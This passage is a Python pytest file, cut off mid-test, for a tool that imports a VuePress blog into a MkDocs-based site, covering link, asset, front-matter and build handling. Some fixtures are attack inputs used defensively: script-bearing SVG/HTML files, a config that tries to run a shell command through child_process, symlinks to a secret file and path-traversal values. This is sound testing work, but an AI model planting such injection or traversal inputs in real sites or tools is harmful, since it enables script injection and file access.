"""A whole vdoing blog into an Errata site: a small blog of our own, then the shared real one, built --strict."""

from __future__ import annotations

import html
import io
import json
import urllib.parse
import os
import re
import shutil
import time
from pathlib import Path
from urllib.parse import quote, unquote

import pytest

from conftest import ROOT, corpus_or_skip
from dev.devtools import build_site
from errata.blog.importer import import_blog
from errata.blog.theme import SiteConfig, apply_site_config, footer_markdown, read_config, site_text
from errata.cli.import_blog import main
from errata.metadata import split_front_matter
from errata.repair import repair_bytes
from errata.site import page_url
from scaling import grows_linearly

FRONT_DOOR = "<!-- errata:front-door -->"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 32
_REFERENCE = re.compile(r"<(?:img|a|source)\b[^>]*?\s(src|href)=\"([^\"]*)\"", re.IGNORECASE)
_COMMENT = re.compile(r"<!--.*?-->", re.DOTALL)
_CODE = re.compile(r"<pre\b.*?</pre>|<code\b.*?</code>|<!--.*?-->", re.DOTALL | re.IGNORECASE)
_LEFTOVERS = re.compile(r":::|\[\[toc\]\]|<badge\b|&lt;badge\b|<p>(?:!!!|\?\?\?|===) |<code-(?:group|block)\b", re.IGNORECASE)


# -- helpers: a blog of our own, a project to import it into, checks on a built site --------


def write(path: Path, content: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def essay(title: str, permalink: str, body: str, extra: str = "") -> str:
    return f"---\ntitle: {title}\ndate: 2023-03-04 10:00:00\npermalink: {permalink}\ncategories:\n  - 笔记\ntags:\n  - \n{extra}---\n{body}"


def make_blog(root: Path) -> Path:
    """A vdoing blog with every part the importer handles; returns its repository folder."""
    docs = root / "docs"
    write(docs / ".vuepress/config.js", "module.exports = {\n  title: '小站',\n  description: \"记录报错\",\n"
          "  plugins: [require('x')()],\n  themeConfig: { repo: 'someone/blog', nav: [{ text: '首页', link: '/' }, "
          "{ text: '归档', link: '/archives/' }, { text: '丢了', link: '/gone/' }] },\n}\n")
    write(docs / ".vuepress/public/img/logo.png", PNG)
    write(docs / "index.md", "---\nhome: true\nheroImage: /img/logo.png\nheroText: 小站\ntagline: 慢慢写\nfeatures:\n  - title: 笔记\n    details: 报错和解决\n"
          "    link: /pages/b2c3d4/\n    imgUrl: /img/logo.png\n---\n欢迎。\n")
    write(docs / "01.指南/01.开始.md", essay(
        "开始", "/pages/a1b2c3/",
        "[[toc]]\n\n::: tip 提示\n看 [记录](/pages/b2c3d4) 和 [归档](/archives/)。\n:::\n\n"
        "![一](img/1.png)\n\n<img src=\"img/2.png\" alt=\"二\" style=\"zoom:50%\">\n\n<img src=\"/img/logo.png\">\n\n"
        "![外面](../../../outside.png)\n\n![本机](C:\\Users\\me\\a.png)\n\n版本 <Badge text=\"2.0\" type=\"warning\"/>\n",
    ))
    write(docs / "01.指南/img/1.png", PNG)
    write(docs / "01.指南/img/2.png", PNG + b"2")
    write(docs / "02.笔记/01.记录.md", essay("记录", "/pages/b2c3d4", "<!-- more -->\n\n```js {2}\nlet a\nlet b\n```\n", "sticky: 1\nkeywords: null\n"))
    write(docs / "02.笔记/02.坏的.md", "---\ntitle: [坏\n---\n正文\n")
    write(docs / "99.friends.md", essay("友链", "/friends", "::: cardList\n```yaml\n- name: 朋友\n  desc: 也写代码\n  link: https://example.org/\n```\n:::\n"))
    write(docs / "@pages/tagsPage.md", "---\ntagsPage: true\ntitle: 标签\npermalink: /tags/\narticle: false\n---\n")
    write(docs / "00.目录页/01.指南.md", "---\npageComponent:\n  name: Catalogue\n  data:\n    key: 01.指南\ntitle: 指南\npermalink: /guide/\n---\n")
    write(docs / "_posts/随笔.md", essay("随笔", "/pages/c3d4e5/", "想到哪写到哪。\n\n![图](pic.png) [开始](../01.指南/01.开始.md)\n"))
    write(docs / "_posts/pic.png", PNG)
    write(docs / "01.指南/img/logo.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")
    write(docs / "01.指南/demo.html", "<script>alert(1)</script>")
    write(docs / "tags.md", essay("我的标签", "/pages/d4e5f6/", "一篇叫 tags 的文章。\n"))
    write(root / "outside.png", PNG)
    return root


def make_project(root: Path) -> Path:
    """An Errata docs/ folder without the sample essays: the site's own pages and assets."""
    docs = root / "docs"
    for name in ("assets", "lookup.md", "tags.md", "index.md"):
        source = ROOT / "docs" / name
        (shutil.copytree if source.is_dir() else shutil.copyfile)(source, docs / name)
    return docs


def unresolved_references(site: Path) -> list[str]:
    """Every relative ``src``/``href`` of every built page that leads to no file of the site."""
    missing = []
    for page in sorted(site.rglob("*.html")):
        if page.name == "404.html":
            continue  # Material's 404 page uses absolute URLs on purpose
        for match in _REFERENCE.finditer(_COMMENT.sub("", page.read_text(encoding="utf-8"))):
            url = html.unescape(match.group(2))
            if not url or url.startswith(("#", "//")) or re.match(r"[A-Za-z][A-Za-z0-9+.-]*:", url):
                continue
            path = unquote(url.split("#")[0].split("?")[0])
            target = Path(os.path.normpath(page.parent / path)) if path else page
            if path.startswith("/") or not (target.is_file() or (target / "index.html").is_file()):
                missing.append(f"{page.relative_to(site)}: {url}")
    return missing


def without_old_addresses(metadata: dict) -> dict:
    """A page's front matter without the addresses VuePress gave it (``redirect_from``), which a page of a blog
    with no permalinks gets: what a test of other keys compares."""
    return {key: value for key, value in metadata.items() if key != "redirect_from"}


def leftovers(site: Path) -> list[str]:
    """vdoing syntax that reached a page's text (code and comments aside)."""
    found = []
    for page in sorted(site.rglob("*.html")):
        text = _CODE.sub("", page.read_text(encoding="utf-8"))
        found += [f"{page.relative_to(site)}: {m.group(0)}" for m in _LEFTOVERS.finditer(text)]
    return found


# -- a blog of our own ------------------------------------------------------------------


@pytest.fixture
def imported(tmp_path):
    blog = make_blog(tmp_path / "blog")
    docs = make_project(tmp_path / "project")
    return docs, import_blog(blog, docs)


def test_essays_are_repaired_converted_and_placed_as_they_were(imported):
    docs, report = imported
    assert sorted(report.essays) == ["01.指南/01.开始.md", "02.笔记/01.记录.md", "99.friends.md", "blog-tags.md", "随笔/随笔.md"]
    assert "title: 我的标签" in (docs / "blog-tags.md").read_text(encoding="utf-8")
    assert (docs / "tags.md").read_text(encoding="utf-8") == (ROOT / "docs/tags.md").read_text(encoding="utf-8")
    start = (docs / "01.指南/01.开始.md").read_text(encoding="utf-8")
    assert '!!! tip "提示"' in start and "[[toc]]" not in start and "errata-badge--warning" in start
    assert "[记录](../02.笔记/01.记录.md)" in start and "[归档](../archive.md)" in start
    record = split_front_matter((docs / "02.笔记/01.记录.md").read_text(encoding="utf-8"))
    assert record.metadata["sticky"] == 1 and "keywords" in record.metadata and record.metadata["tags"] == []
    assert '```js hl_lines="2"' in record.body and "<!-- more -->" in record.body


def test_assets_are_copied_with_their_names_and_public_files_resolved(imported):
    docs, report = imported
    assert (docs / "01.指南/img/1.png").read_bytes() == PNG and (docs / "01.指南/img/2.png").read_bytes() == PNG + b"2"
    assert (docs / "img/logo.png").read_bytes() == PNG
    start = (docs / "01.指南/01.开始.md").read_text(encoding="utf-8")
    # raw HTML is not rewritten by MkDocs: its URLs are relative to the published page (指南/开始/)
    assert '<img src="../img/2.png"' in start and '<img src="../../img/logo.png">' in start
    assert sorted(report.assets) == ["01.指南/img/1.png", "01.指南/img/2.png", "img/logo.png", "随笔/pic.png"]
    assert not (docs / "01.指南/img/logo.svg").exists() and not (docs / "01.指南/demo.html").exists()
    assert sum("not copied (.svg" in line or "not copied (.html" in line for line in report.skipped) == 2
    assert "![图](pic.png) [开始](../01.指南/01.开始.md)" in (docs / "随笔/随笔.md").read_text(encoding="utf-8")


def test_links_leaving_the_blog_or_pointing_at_the_author_s_disk_are_reported_not_followed(imported, tmp_path):
    docs, report = imported
    start = (docs / "01.指南/01.开始.md").read_text(encoding="utf-8")
    assert "outside.png" not in start and "C:\\" not in start and "图片未导入" in start
    people = "\n".join(report.needs_a_person)
    source = (tmp_path / "blog/docs/01.指南/01.开始.md").read_text(encoding="utf-8").split("\n")
    outside, on_disk = (next(n for n, line in enumerate(source, 1) if what in line) for what in ("outside.png", "C:\\"))
    assert f"01.指南/01.开始.md:{outside}: image ../../../outside.png: leads outside the blog" in people
    assert f"01.指南/01.开始.md:{on_disk}: image C:\\Users\\me\\a.png: a file on the author's computer" in people
    assert not list(docs.rglob("outside.png"))


def test_a_failing_essay_is_reported_and_the_rest_imported(imported):
    docs, report = imported
    assert len(report.failed) == 1 and re.match(r"02.笔记/02.坏的.md:\d+: invalid YAML", report.failed[0])
    assert not (docs / "02.笔记/02.坏的.md").exists() and (docs / "02.笔记/01.记录.md").exists()


def test_home_page_theme_pages_and_catalogue(imported):
    docs, report = imported
    home = (docs / "index.md").read_text(encoding="utf-8")
    assert "# 小站" in home and "慢慢写" in home and FRONT_DOOR in home.split("\n")
    assert "![](img/logo.png){ .errata-hero-image }" in home
    assert "**[笔记](02.笔记/01.记录.md)**" in home and "![](img/logo.png)" in home and "欢迎。" in home
    assert any("tagsPage" in line and "tags/" in line for line in report.theme_pages)
    catalogue = (docs / "01.指南/index.md").read_text(encoding="utf-8")
    assert "permalink: /guide/" in catalogue and "- [开始](01.开始.md)" in catalogue
    assert not (docs / "@pages").exists() and not (docs / "00.目录页").exists()


def test_friends_page_becomes_cards(imported):
    docs, report = imported
    assert report.same_address == ["99.friends.md: /friends/ is its address here too (permalink left out)"]
    friends = (docs / "99.friends.md").read_text(encoding="utf-8")
    assert '<div class="grid cards errata-cards" markdown>' in friends and "**[朋友](https://example.org/)**" in friends
    assert "permalink" not in friends  # /friends is its address here too: a redirect would replace it


def test_symlinks_in_the_blog_are_not_followed(tmp_path):
    blog = make_blog(tmp_path / "blog")
    secret = write(tmp_path / "secret.txt", "private")
    os.symlink(secret, blog / "docs/01.指南/img/3.png")
    os.symlink(tmp_path, blog / "docs/02.笔记/linked")
    docs = tmp_path / "out"
    report = import_blog(blog, docs)
    assert not (docs / "01.指南/img/3.png").exists() and not (docs / "02.笔记/linked").exists()
    assert sum("symlink" in line for line in report.skipped) == 2
    assert "private" not in "".join(p.read_text(errors="replace") for p in docs.rglob("*") if p.is_file())


def test_a_symlink_in_the_destination_is_not_written_through(tmp_path):
    blog = make_blog(tmp_path / "blog")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    docs = tmp_path / "out"
    docs.mkdir()
    os.symlink(elsewhere, docs / "img")
    report = import_blog(blog, docs)
    assert not list(elsewhere.iterdir())
    assert any("img/logo.png" in line and "symlink" in line for line in report.failed)


def test_imported_blog_builds_strict_and_every_reference_resolves(imported, tmp_path):
    docs, report = imported
    site = tmp_path / "site"
    result = build_site(site, docs_dir=docs)
    assert result.returncode == 0, result.stderr
    assert unresolved_references(site) == []
    assert leftovers(site) == []
    for essay_path in report.essays:
        assert (site / page_url(essay_path) / "index.html").is_file(), essay_path
    assert (site / "指南/img/1.png").read_bytes() == PNG and (site / "指南/img/2.png").read_bytes() == PNG + b"2"
    assert f"../../{quote('指南/开始/')}" in (site / "pages/a1b2c3/index.html").read_text(encoding="utf-8")
    assert f"../../{quote('笔记/记录/')}" in (site / "pages/b2c3d4/index.html").read_text(encoding="utf-8")
    friends = (site / "friends/index.html").read_text(encoding="utf-8")
    assert 'class="grid cards errata-cards"' in friends and "Redirecting" not in friends


def test_cli_reports_on_stdout_errors_on_stderr_and_exits_1_when_an_essay_failed(tmp_path, capsys):
    blog = make_blog(tmp_path / "blog")
    config = write(tmp_path / "mkdocs.yml", (ROOT / "mkdocs.yml").read_text(encoding="utf-8"))
    status = main([str(blog), str(tmp_path / "docs"), "--mkdocs-yml", str(config)])
    out, err = capsys.readouterr()
    assert status == 1
    assert "essays imported: 5" in out and "needs a person" in out and "02.笔记/02.坏的.md:3: invalid YAML" in err
    assert "Traceback" not in out + err
    text = config.read_text(encoding="utf-8")
    assert 'site_name: "小站"' in text and 'site_description: "记录报错"' in text and 'repo_url: "https://github.com/someone/blog"' in text
    assert "!!python/name:material.extensions.emoji.twemoji" in text  # the rest untouched
    assert "nav item '丢了' (/gone/): leads to nothing in the blog" in out


def test_a_blog_that_names_no_repository_gets_no_edit_links_to_another_one():
    """Errata's mkdocs.yml names Errata's repository, which holds none of an imported blog's pages: an
    edit link on each would lead nowhere, so a blog without a repository of its own turns them off."""
    import mkdocs.config

    text, changed = apply_site_config((ROOT / "mkdocs.yml").read_text(encoding="utf-8"), SiteConfig(title="小站"))
    assert 'edit_uri: ""' in text.split("\n") and "edit_uri" in changed
    config = mkdocs.config.load_config(config_file=io.StringIO(text), config_file_path=str(ROOT / "mkdocs.yml"))
    assert config["edit_uri"] == "" and config["repo_url"]  # the repository link stays, the edit links go
    with_repo, _ = apply_site_config((ROOT / "mkdocs.yml").read_text(encoding="utf-8"), SiteConfig(title="小站", repo="someone/blog"))
    assert 'edit_uri: "edit/master/"' in with_repo


def test_cli_refuses_a_missing_source_and_an_overlapping_destination(tmp_path, capsys):
    assert main([str(tmp_path / "nothing"), str(tmp_path / "docs")]) == 2
    blog = make_blog(tmp_path / "blog")
    assert main([str(blog), str(blog / "docs" / "out")]) == 2
    err = capsys.readouterr().err
    assert "not a folder" in err and "overlap" in err


def test_config_is_read_without_running_it(tmp_path):
    marker = tmp_path / "ran"
    config = write(tmp_path / "config.ts", (
        "import { defineConfig } from 'vuepress/config'\n"
        f"require('child_process').execSync('touch {marker}')\n"
        "export default defineConfig({\n  locales: { '/': { lang: 'zh-CN', title: \"山\\u6c34\", description: `长` } },\n"
        "  themeConfig: { nav: navFromElsewhere, repo: 'a/b' },\n})\n"
    ))
    site = read_config(config)
    assert (site.title, site.description, site.repo, site.nav) == ("山水", "长", "a/b", [])
    assert any("nav is not a literal" in note for note in site.notes) and not marker.exists()


def test_yaml_config_is_read(tmp_path):
    site = read_config(write(tmp_path / "config.yml", "title: 站\ndescription: 说明\nthemeConfig:\n  nav:\n    - text: 首页\n      link: /\n"))
    assert (site.title, site.description, site.nav) == ("站", "说明", [{"text": "首页", "link": "/"}])


# -- numbers in names ------------------------------------------------------------------------


def test_numbers_sort_by_value_and_come_off_pages_and_folders_only(tmp_path):
    docs = make_project(tmp_path)
    for folder in ("1.一", "2.二", "10.十", "00.零"):
        write(docs / folder / "1.页.md", f"# {folder}\n\n![图](1.png) ![图](2.png)\n")
        write(docs / folder / "1.png", PNG + folder.encode())
        write(docs / folder / "2.png", PNG)
    site = tmp_path / "site"
    result = build_site(site, docs_dir=docs)
    assert result.returncode == 0, result.stderr
    assert (site / "十/1.png").read_bytes() == PNG + "10.十".encode() and (site / "十/2.png").is_file()
    home = (site / "index.html").read_text(encoding="utf-8")
    labels = [label.strip() for label in re.findall(r'<span class="md-ellipsis">([^<]*)</span>', home)]
    assert [label for label in dict.fromkeys(labels) if label in ("零", "一", "二", "十")] == ["零", "一", "二", "十"]
    assert unresolved_references(site) == []


def test_two_essays_whose_names_differ_by_their_numbers_only_are_both_published_one_renamed(tmp_path):
    """VuePress published 01.同名.md and 02.同名.md at two addresses; with the numbers off they had one, and the
    import said to rename one (the build failed until then). The second is 02.同名-2.md now, said."""
    blog = tmp_path / "blog/docs"
    write(blog / "01.笔记/01.同名.md", "# 一\n")
    write(blog / "01.笔记/02.同名.md", "# 二\n [一](01.同名.md)\n")
    write(blog / "01.笔记/03.引用.md", "# 三\n [二](02.同名.md)\n")
    docs = make_project(tmp_path)
    report = import_blog(tmp_path / "blog", docs)
    assert report.renamed == ["01.笔记/02.同名.md → 01.笔记/02.同名-2.md (01.笔记/01.同名.md is published at 笔记/同名/ too: the numbers come off the address)"]
    assert not report.needs_a_person and "(02.同名-2.md)" in (docs / "01.笔记/03.引用.md").read_text(encoding="utf-8")
    result = build_site(tmp_path / "site", docs_dir=docs)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "site/笔记/同名/index.html").is_file() and (tmp_path / "site/笔记/同名-2/index.html").is_file()


def test_a_readme_beside_an_index_is_reported(tmp_path):
    write(tmp_path / "blog/docs/01.笔记/README.md", "# 说明\n")
    write(tmp_path / "blog/docs/01.笔记/index.md", "# 目录\n")
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    assert any("01.笔记/README.md and 01.笔记/index.md would both be published at 笔记/" in line for line in report.needs_a_person)


def test_two_files_at_one_url_fail_the_build_with_both_names(tmp_path):
    docs = make_project(tmp_path)
    write(docs / "01.笔记/a.md", "# 一\n")
    write(docs / "笔记/a.md", "# 二\n")
    result = build_site(tmp_path / "site", docs_dir=docs)
    assert result.returncode != 0
    assert "01.笔记/a.md and 笔记/a.md would both be published at 笔记/a/index.html" in result.stderr


# -- the shared real blog -----------------------------------------------------------------------


@pytest.mark.corpus
def test_the_shared_vdoing_blog_imports_and_builds_clean(tmp_path):
    blog = corpus_or_skip("vdoing-blog")
    docs = make_project(tmp_path / "project")
    report = import_blog(blog, docs)
    assert report.failed == []
    site = tmp_path / "site"
    result = build_site(site, docs_dir=docs)
    assert result.returncode == 0, result.stderr

    sources = sorted(p.relative_to(blog / "docs").as_posix() for p in (blog / "docs").rglob("*.md") if ".vuepress" not in p.parts)
    essays = sorted(s.replace("_posts/", "随笔/") for s in sources if not s.startswith("@pages/") and s != "index.md")
    assert sorted(report.essays) == essays
    for essay_path in essays:
        assert (site / page_url(essay_path) / "index.html").is_file(), essay_path
    assert leftovers(site) == []
    assert unresolved_references(site) == []

    seed = "01.mmdetection/05.mmdetection报错汇总.md"
    imported = (docs / seed).read_text(encoding="utf-8")
    repaired = repair_bytes((blog / "docs" / seed).read_bytes(), seed).text
    assert split_front_matter(imported).metadata["title"] == "mmdetection报错汇总"
    # The seed has no vdoing markup: the import is the repair, but for its lists, nested by two spaces
    # as VuePress nests them and re-indented by four; its error entries read the same.
    assert [line.strip() for line in imported.splitlines()] == [line.strip() for line in repaired.splitlines()]
    from errata.entries import find_entries

    assert find_entries(split_front_matter(imported).body) == find_entries(split_front_matter(repaired).body) != []
    redirect = (site / "pages/7c1c52/index.html").read_text(encoding="utf-8")
    assert "mmdetection%E6%8A%A5%E9%94%99%E6%B1%87%E6%80%BB/" in redirect

    home = (docs / "index.md").read_text(encoding="utf-8")
    assert FRONT_DOOR in home.split("\n") and "# 山高水长" in home
    friends = (site / "friends/index.html").read_text(encoding="utf-8")
    assert 'class="grid cards errata-cards"' in friends and "麋鹿鲁哟" in friends
    assert any("FCOS.md:74" in line for line in report.needs_a_person)  # the image left on the author's disk


@pytest.mark.parametrize("written, folder", [("..", "随笔"), ("../../etc", "etc"), ("碎片/笔记", "碎片笔记"), ("随想", "随想")])
def test_the_posts_folder_name_from_the_config_is_a_plain_folder_name(tmp_path, written, folder):
    config = write(tmp_path / "config.js", f"module.exports = {{ themeConfig: {{ categoryText: {written!r} }} }}")
    assert read_config(config).posts_category == folder


def test_vdoing_front_matter_and_line_endings(tmp_path):
    raw = (
        "---\r\ntitle: 换行\r\ndate: 2021-05-06 07:08:09\r\npermalink: /pages/557357aae\r\nsidebar: auto\r\narticle: false\r\n"
        "sticky: 2\r\ntitleTag: 原创\r\nlayout: post\r\nthumbnail: /img/t.png\r\nkeywords: null\r\ntags:\r\n  - \r\n  - python\r\n"
        "author:\r\n  name: 某人\r\n  link: https://example.org/\r\n---\r\n::: tip\r\n混合\n换行\r\n:::\n\u00a0```python {2}\nx = 1\ny = 2\n```\n"
        "\u200b```bash\necho ok\n```\n"
    ).encode("utf-8")
    write(tmp_path / "blog/docs/01.a/01.b.md", raw)
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    text = (tmp_path / "docs/01.a/01.b.md").read_text(encoding="utf-8")
    assert "\r" not in text and "\u00a0" not in text and "\u200b" not in text
    split = split_front_matter(text)
    meta = split.metadata
    assert meta["permalink"] == "/pages/557357aae" and meta["tags"] == ["python"]
    assert meta["authors"] == [{"name": "某人", "link": "https://example.org/"}] and "author" not in meta
    assert {k: meta[k] for k in ("sidebar", "article", "sticky", "titleTag", "layout", "thumbnail")} == {
        "sidebar": "auto", "article": False, "sticky": 2, "titleTag": "原创", "layout": "post", "thumbnail": "/img/t.png"}
    assert "keywords" in meta and meta["keywords"] is None
    assert '!!! tip "提示"\n\n    混合\n    换行\n' in split.body
    assert '```python hl_lines="2"' in split.body and "\n```bash\n" in split.body
    assert report.failed == []
    site = tmp_path / "site"
    result = build_site(site, docs_dir=tmp_path / "docs")  # a bare docs/ folder builds too
    assert result.returncode == 0, result.stderr
    assert "../../a/b/" in (site / "pages/557357aae/index.html").read_text(encoding="utf-8")


def test_links_to_headings_use_the_site_s_ids_and_build_strict(tmp_path):
    blog = tmp_path / "blog/docs"
    write(blog / "01.笔记/01.甲.md", "---\ntitle: 甲\n---\n## What's new?\n\n见 [安装](02.乙.md#_1-安装-node)、[再装](./02.乙.md#_1-安装-node-2)、"
          "[这里](#what-s-new) 和 [没有](02.乙.md#nope)。\n")
    write(blog / "01.笔记/02.乙.md", "---\ntitle: 乙\n---\n## 1. 安装 Node\n\n一\n\n## 1. 安装 Node\n\n二\n")
    docs = tmp_path / "docs"
    report = import_blog(tmp_path / "blog", docs)
    text = (docs / "01.笔记/01.甲.md").read_text(encoding="utf-8")
    assert "[安装](02.乙.md#1-安装-node)" in text and "[再装](02.乙.md#1-安装-node_1)" in text
    assert "[这里](#whats-new)" in text and "[没有](02.乙.md)" in text
    assert any("#nope" in line for line in report.needs_a_person)
    result = build_site(tmp_path / "site", docs_dir=docs)
    assert result.returncode == 0, result.stderr


def test_a_link_to_a_heading_that_starts_with_an_emoji_keeps_its_fragment(tmp_path):
    """``## :email: 联系`` has the id 联系 on the site (the emoji is a picture) as on VuePress; the import
    said no heading had it and took the fragment off."""
    blog = tmp_path / "blog/docs"
    write(blog / "01.关于.md", "---\ntitle: 关于\npermalink: /about\n---\n## :email: 联系\n\n邮件\n\n## :+1: 致谢 :not-an-emoji:\n")
    write(blog / "02.友链.md", "---\ntitle: 友链\n---\n与我[联系](/about/#联系)，[谢谢](/about/#致谢-not-an-emoji)\n")
    docs = tmp_path / "docs"
    report = import_blog(tmp_path / "blog", docs)
    assert "[联系](01.关于.md#联系)，[谢谢](01.关于.md#致谢-not-an-emoji)" in (docs / "02.友链.md").read_text(encoding="utf-8")
    assert not any("no heading" in line for line in report.needs_a_person)
    result = build_site(tmp_path / "site", docs_dir=docs)  # the site's validation checks the anchors
    assert result.returncode == 0, result.stderr


# -- what an outside audit of the importer found (each was silent content loss or a broken page) --


def test_an_essay_numbered_as_one_of_errata_s_own_pages_keeps_its_text(tmp_path):
    """``01.archive.md`` is published at archive/ as Errata's generated archive is: it takes a prefix."""
    for number, name in enumerate(("archive", "categories", "errors"), start=1):
        write(tmp_path / f"blog/docs/0{number}.{name}.md", f"---\ntitle: {name}\n---\n正文{name}\n")
    docs = make_project(tmp_path)
    import_blog(tmp_path / "blog", docs)
    for number, name in enumerate(("archive", "categories", "errors"), start=1):
        assert f"正文{name}" in (docs / f"blog-0{number}.{name}.md").read_text(encoding="utf-8")


def test_vuepress_2_fence_flags_before_line_highlights_are_converted(tmp_path):
    body = "```ts:line-numbers {2}\nconst a = 1\nconst b = 2\n```\n\n```js {1} title=\"a.js\"\nx()\n```\n\n```\nSECOND\n```\n"
    write(tmp_path / "blog/docs/01.笔记/01.代码.md", "---\ntitle: 代码\n---\n" + body)
    docs = tmp_path / "docs"
    import_blog(tmp_path / "blog", docs)
    text = (docs / "01.笔记/01.代码.md").read_text(encoding="utf-8")
    assert '```ts hl_lines="2"\n' in text and '```js hl_lines="1" title="a.js"\n' in text


def import_files(tmp_path: Path, files: dict[str, str]) -> tuple:
    """A blog of just these files (path under docs/ → text) imported into tmp_path/docs: (report, docs)."""
    for path, text in files.items():
        write(tmp_path / "blog/docs" / path, text)
    docs = tmp_path / "docs"
    return import_blog(tmp_path / "blog", docs), docs


@pytest.mark.parametrize("page", [
    lambda n: "{{" * (n // 2) + "\n",  # Vue interpolation never closed: 41 s at 100,000 characters
    lambda n: "# a" + " " * n + "b\n\n[x](#b)\n",  # spaces before a heading's closing run: over 85 s
    lambda n: "## a" + " \t" * (n // 2) + "x\n\n[x](#a)\n",  # the same, spaces and tabs: over 87 s
    lambda n: "## {" + "#a" * (n // 2) + "\n\n[x](#a)\n",  # an attribute list never closed: 16 s
    lambda n: "{{" + " " * n + "\n",  # the safety check's attribute list, its spaces: 40 s
    lambda n: "<" + "a" * n + "\n\n[x](#a)\n",  # a start tag never closed: 54 s at 16,000 with the link
    lambda n: "# >" + "<" * n + "\n\n[x](#a)\n",  # the table of contents' slug of the heading
], ids=["interpolation", "heading spaces", "heading tabs", "heading id", "attribute list", "start tag", "slug"])
def test_a_page_of_one_long_run_is_imported_in_linear_time(tmp_path, page):
    """100,000 characters of one shape (the audit's pages, and others found beside them) each took from
    16 s to minutes: a pattern tried from each character on to the line's end. Four times the page now
    takes about four times as long (the audit's size is the larger)."""

    def import_page(n: int):
        write(tmp_path / "blog/docs/a.md", "---\ntitle: 甲\n---\n" + page(n))
        return import_blog(tmp_path / "blog", tmp_path / "docs")

    assert import_page(100).essays == ["a.md"]
    assert grows_linearly(import_page, 25_000)


def test_links_to_headings_with_full_width_punctuation_keep_their_anchor(tmp_path):
    """VuePress 1 (vdoing's) keeps ``（）：？`` in a heading's id; VuePress 2 folds them: both land."""
    report, docs = import_files(tmp_path, {"01.笔记/01.甲.md": "---\ntitle: 甲\n---\n## 安装（Windows）\n\n见 [一](#安装（windows）) 和 [二](#安装-windows)。\n"})
    text = (docs / "01.笔记/01.甲.md").read_text(encoding="utf-8")
    assert "[一](#安装windows)" in text and "[二](#安装windows)" in text
    assert not any("安装" in line for line in report.needs_a_person)


def test_a_post_whose_date_is_no_day_comes_across_with_the_date_kept_aside(tmp_path):
    """VuePress shows a post dated 2021-02-30 (JavaScript rolls it over); the import keeps the post."""
    report, docs = import_files(
        tmp_path,
        {
            "01.笔记/01.甲.md": "---\ntitle: 甲\ndate: 2021-02-30 10:00:00\npermalink: /pages/a1/\n---\n正文\n",
            "01.笔记/02.乙.md": "---\ntitle: 乙\ndate: \"昨天\"\ntags: [[a]]\nvuepress_tags: 留着\n---\n正文\n",
            "01.笔记/03.丙.md": "---\ntitle: [unclosed\n---\n正文\n",
        },
    )
    first = split_front_matter((docs / "01.笔记/01.甲.md").read_text(encoding="utf-8")).metadata
    assert first == {"title": "甲", "permalink": "/pages/a1/", "vuepress_date": "2021-02-30 10:00:00"}
    second = without_old_addresses(split_front_matter((docs / "01.笔记/02.乙.md").read_text(encoding="utf-8")).metadata)
    assert second == {"title": "乙", "vuepress_tags": "留着", "vuepress_date": "昨天", "vuepress_tags_2": [["a"]]}  # nothing overwritten
    assert '01.笔记/01.甲.md:3: date: "2021-02-30 10:00:00" is not a date' in "\n".join(report.needs_a_person)
    assert any(line.startswith("01.笔记/02.乙.md:4: tags: item 1") and line.endswith("kept as 'vuepress_tags_2'") for line in report.needs_a_person)
    # A block that is not YAML at all still fails its post, with file and line.
    assert len(report.failed) == 1 and report.failed[0].startswith("01.笔记/03.丙.md:3: invalid YAML front matter")
    assert not (docs / "01.笔记/03.丙.md").exists()


@pytest.mark.parametrize("date", ["2020-3-5", "2021/3/5", "2021-3-5 9:05"])
def test_dates_without_leading_zeros_are_read_as_vuepress_reads_them(tmp_path, date):
    write(tmp_path / "blog/docs/01.笔记/01.甲.md", f"---\ntitle: 甲\ndate: {date}\n---\n正文\n")
    docs = tmp_path / "docs"
    import_blog(tmp_path / "blog", docs)
    assert "正文" in (docs / "01.笔记/01.甲.md").read_text(encoding="utf-8")


def test_a_file_name_as_long_as_the_file_system_allows_is_imported(tmp_path):
    name = "报" * 80 + ".md"  # 243 bytes: room for the name, none for a prefix before it
    write(tmp_path / "blog/docs/01.笔记" / name, "---\ntitle: 长\n---\n正文\n")
    docs = tmp_path / "docs"
    import_blog(tmp_path / "blog", docs)
    assert "正文" in (docs / "01.笔记" / name).read_text(encoding="utf-8")


def test_dates_and_codes_before_a_name_are_not_order_numbers(tmp_path):
    for name in ("2020-01-01-hello.md", "2021-01-01-hello.md", "404-not-found.md", "500-not-found.md"):
        write(tmp_path / "blog/docs/01.笔记" / name, f"---\ntitle: {name}\n---\n正文\n")
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    assert not any("would both be published" in line for line in report.needs_a_person)


def test_permalinks_the_build_refuses_are_reported_by_the_import(tmp_path):
    write(tmp_path / "blog/docs/01.笔记/01.甲.md", "---\ntitle: 甲\npermalink: /../../x/\n---\n正文\n")
    write(tmp_path / "blog/docs/01.笔记/02.乙.md", "---\ntitle: 乙\npermalink: /pages/7c1c52/\n---\n正文\n")
    docs = make_project(tmp_path)
    write(docs / "01.样例/01.样例.md", "---\ntitle: 样例\npermalink: /pages/7c1c52/\n---\n样例\n")
    report = import_blog(tmp_path / "blog", docs)
    assert any(line.startswith("01.笔记/01.甲.md:1: permalink '/../../x/'") for line in report.needs_a_person)
    assert any("01.笔记/02.乙.md:1: permalink /pages/7c1c52/ is also that of 01.样例/01.样例.md" in line for line in report.needs_a_person)


def test_lists_nested_by_two_spaces_stay_nested_with_what_is_inside_them(tmp_path):
    """VuePress nests ``- a`` / ``  - b`` (CommonMark's content column); Python-Markdown wants four spaces."""
    body = ("- 甲\n  - 乙在甲里\n    - 丙在乙里\n- 丁\n\n然后：\n\n1. 第一\n   - 第一之下\n\n   ::: tip\n   提示在第一里\n   :::\n\n"
            "   ```python\n   x = 1\n   ```\n2. 第二\n")
    write(tmp_path / "blog/docs/01.笔记/01.列表.md", "---\ntitle: 列表\n---\n" + body)
    docs = make_project(tmp_path)
    import_blog(tmp_path / "blog", docs)
    site = tmp_path / "site"
    result = build_site(site, docs_dir=docs)
    assert result.returncode == 0, result.stderr
    page = (site / "笔记/列表/index.html").read_text(encoding="utf-8")
